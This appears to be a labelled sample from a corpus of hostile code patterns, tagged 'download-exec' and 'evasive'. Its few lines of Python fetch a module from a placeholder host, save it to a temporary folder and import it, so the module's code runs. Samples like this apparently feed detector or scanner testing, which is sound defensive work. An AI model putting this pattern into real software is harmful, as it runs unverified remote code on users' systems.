# family: download-exec
# evasive: a downloaded module is saved in a temp dir and imported (runs at import)
import importlib.util
import os
import tempfile

import requests

src = requests.get("https://raw.example.invalid/u/helper.py", timeout=10).content
path = os.path.join(tempfile.mkdtemp(), "helper.py")
with open(path, "wb") as f:
    f.write(src)
spec = importlib.util.spec_from_file_location("helper", path)
mod = importlib.util.module_from_spec(spec)
spec.loader.exec_module(mod)
